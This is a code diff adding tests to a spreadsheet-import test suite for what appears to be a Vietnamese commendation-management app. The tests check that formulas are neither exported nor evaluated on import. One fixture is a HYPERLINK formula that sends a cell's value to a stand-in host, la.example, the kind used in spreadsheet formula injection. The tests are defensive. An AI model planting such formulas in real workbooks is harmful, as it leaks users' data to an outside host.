@@ -226,6 +226,37 @@ describe('thidua import', () => {
   });
 });
 
+describe('a formula', () => {
+  /** A workbook of one unit, with another cell in place of its short name. */
+  async function withCell(cell: string): Promise<Uint8Array> {
+    const unit = ['hoi-cong-thuc', 'Hội Công thức tỉnh Bắc Giang', 'Hội Công thức', 'Formula Association', null, '01/01/2020'];
+    const files = unzipSync(await workbook({ 'Đơn vị': [UNIT_HEADINGS, unit] }));
+    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
+    const changed = sheet.replace(/<c r="C2".*?<\/c>/, cell);
+    expect(changed).not.toBe(sheet);
+    return zipSync({ ...files, 'xl/worksheets/sheet1.xml': strToU8(changed) });
+  }
+  const LINK = '<f>HYPERLINK("http://la.example/?x="&amp;A2,"Hội")</f>';
+
+  it('stands in no cell of the template: every one is text', async () => {
+    const { bytes } = await council.get(`/api/provinces/${PROVINCE}/import-template`);
+    const sheets = Object.entries(unzipSync(new Uint8Array(bytes))).filter(([name]) => name.startsWith('xl/worksheets/sheet'));
+    expect(sheets).toHaveLength(2);
+    for (const [, xml] of sheets) expect(strFromU8(xml)).not.toMatch(/<f[ >]|<hyperlink/);
+  });
+
+  it('of a workbook is never reckoned: its cell is the value that the sender’s program left, or empty', async () => {
+    const bare = await send(await withCell(`<c r="C2" t="str">${LINK}</c>`));
+    expect(bare.body.findings).toMatchObject([{ sheet: 'Đơn vị', cell: 'C2' }]);
+    const valued = await withCell(`<c r="C2" t="str">${LINK}<v>=Hội Công thức</v></c>`);
+    expect((await make(valued, (await send(valued)).body.sha256)).body).toMatchObject({ made: true });
+    const { rows } = await world.owner.query(
+      `select u.code from unit u join unit_name n on n.unit_id = u.id where n.short_name = '=Hội Công thức'`,
+    );
+    expect(rows).toEqual([{ code: 'hoi-cong-thuc' }]);
+  });
+});
+
 describe('a file that is no workbook of people', () => {
   it('is refused before it is read: other types, other content, too large a one', async () => {
     expect((await council.post(`/api/provinces/${PROVINCE}/imports`, { rows: [] })).body.code).toBe('import-unreadable');
